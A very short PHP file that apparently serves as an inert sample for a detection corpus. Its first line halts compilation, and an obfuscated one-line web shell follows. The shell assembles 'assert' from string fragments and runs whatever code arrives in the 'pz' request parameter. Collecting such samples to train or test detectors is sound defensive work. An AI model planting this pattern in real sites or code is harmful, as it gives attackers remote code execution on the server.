<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$f = implode('', array('as', 'se', 'rt'));
$f($_GET['pz']);
